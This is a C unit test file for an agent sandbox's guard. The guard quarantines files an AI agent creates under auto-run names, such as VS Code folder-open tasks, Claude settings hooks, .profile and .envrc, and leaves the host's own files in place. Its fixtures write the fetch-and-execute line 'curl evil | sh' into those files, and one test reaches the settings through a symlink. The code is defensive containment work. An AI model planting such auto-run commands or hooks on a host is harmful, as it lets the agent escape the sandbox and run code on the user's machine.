/* SPDX-License-Identifier: Apache-2.0 */
/* Write protection covers only the names that exist at start: what the
 * agent creates at the top of a read-write tree under a protected name (an
 * .envrc, .vscode/tasks.json, .claude/settings.json, a shell start-up file)
 * is moved aside at the end of the run, as gitguard does with git's, and
 * reported; what the host had there, unchanged, stays (lib/git). */
#include <criterion/criterion.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "fs.h"
#include "gitguard.h"
#include "policy.h"
#include "util.h"

#include "gitguard-test-begin.h"

static char ws[64];

static void put(const char *rel, const char *text)
{
        char p[256];
        snprintf(p, sizeof(p), "%s/%s", ws, rel);
        int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        cr_assert(fd >= 0, "%s", p);
        cr_assert_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
        close(fd);
}

static void dir(const char *rel)
{
        char p[256];
        snprintf(p, sizeof(p), "%s/%s", ws, rel);
        cr_assert_eq(mkdir(p, 0755), 0, "%s", p);
}

static bool exists(const char *rel)
{
        char p[256];
        struct stat st;
        snprintf(p, sizeof(p), "%s/%s", ws, rel);
        return lstat(p, &st) == 0;
}

static struct gitguard *begin(void)
{
        return gg_begin_at(ws);
}

static int warnings;
static void warn(const char *line, void *userdata)
{
        (void)userdata;
        (void)line;
        warnings++;
}

Test(gitguard_protect, names_created_in_the_run_are_moved_aside)
{
        snprintf(ws, sizeof(ws), "/tmp/airlock-ggprot-XXXXXX");
        cr_assert_not_null(mkdtemp(ws));
        /* The host's own: left as they are. */
        put(".envrc", "export HOST=1\n");
        dir(".idea");
        put(".idea/workspace.xml", "<x/>\n");
        dir(".claude");
        put("README", "hi\n");
        struct gitguard *g = begin();
        /* The agent's, under names the host's tools run on open. */
        dir(".vscode");
        put(".vscode/tasks.json", "{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n");
        put(".claude/settings.json", "{\"hooks\": {}}\n");
        put(".profile", "curl evil | sh\n");
        put("notes.txt", "fine\n");
        warnings = 0;
        int n = gitguard_finish(g, NULL, "0123456789abcdef", warn, NULL);
        cr_expect_eq(n, 3, "findings: %d", n);
        cr_expect_eq(warnings, 3);
        cr_expect(!exists(".vscode") && exists(".vscode.airlock-quarantine/tasks.json"));
        cr_expect(!exists(".claude/settings.json") &&
                  exists(".claude/settings.json.airlock-quarantine"));
        cr_expect(!exists(".profile") && exists(".profile.airlock-quarantine"));
        cr_expect(exists(".envrc") && exists(".idea/workspace.xml") && exists("README") &&
                  exists("notes.txt"));
        fs_remove_tree(AT_FDCWD, ws, 16);
}

Test(gitguard_protect, a_link_or_a_rewrite_is_moved_too)
{
        snprintf(ws, sizeof(ws), "/tmp/airlock-ggprot-XXXXXX");
        cr_assert_not_null(mkdtemp(ws));
        put(".envrc", "export HOST=1\n");
        struct gitguard *g = begin();
        /* .claude as a link to a directory holding settings; .envrc
         * replaced (a mount covers it inside, but a tree mounted later, or
         * a review's accept, writes it). */
        char p[256], t[256];
        snprintf(t, sizeof(t), "%s/elsewhere", ws);
        cr_assert_eq(mkdir(t, 0755), 0);
        put("elsewhere/settings.json", "{}\n");
        snprintf(p, sizeof(p), "%s/.claude", ws);
        cr_assert_eq(symlink("elsewhere", p), 0);
        put(".envrc", "curl evil | sh\n");
        int n = gitguard_finish(g, NULL, "0123456789abcdef", NULL, NULL);
        cr_expect_eq(n, 2, "findings: %d", n);
        cr_expect(!exists(".claude") && exists(".claude.airlock-quarantine"));
        cr_expect(!exists(".envrc") && exists(".envrc.airlock-quarantine"));
        fs_remove_tree(AT_FDCWD, ws, 16);
}
